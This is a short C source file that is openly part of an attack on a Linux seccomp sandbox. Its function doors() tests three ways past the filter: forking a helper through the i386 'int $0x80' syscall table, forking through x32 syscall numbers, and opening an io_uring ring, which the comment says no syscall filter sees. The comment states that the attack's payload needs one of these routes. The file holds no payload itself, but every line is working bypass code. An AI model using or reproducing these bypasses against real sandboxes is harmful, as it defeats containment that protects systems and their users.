/* Doors out of the seccomp filter that its first version left open: a helper process through the i386 table
 * (int $0x80), through the x32 numbers, and an io_uring ring (operations no syscall filter sees). The attack's
 * payload needs one of them; doors() returns the mask of those that opened. */
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>

static long i386_call(long nr, long a, long b, long c) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return (int)ret;
}

int doors(void) {
    int open = 0;
    long pid = i386_call(2, 0, 0, 0);                 /* i386 fork */
    if (pid == 0) i386_call(1, 0, 0, 0);              /* the helper: i386 exit at once */
    if (pid > 0) { i386_call(7, pid, 0, 0); open |= 1; }  /* i386 waitpid: reaped, nothing left running */
    pid = syscall(57 | 0x40000000);                   /* x32 fork */
    if (pid == 0) _exit(0);
    if (pid > 0) { i386_call(7, pid, 0, 0); open |= 2; }
    unsigned char params[120];
    memset(params, 0, sizeof params);
    long ring = syscall(425, 1, params);              /* io_uring_setup */
    if (ring >= 0) { close(ring); open |= 4; }
    return open;
}
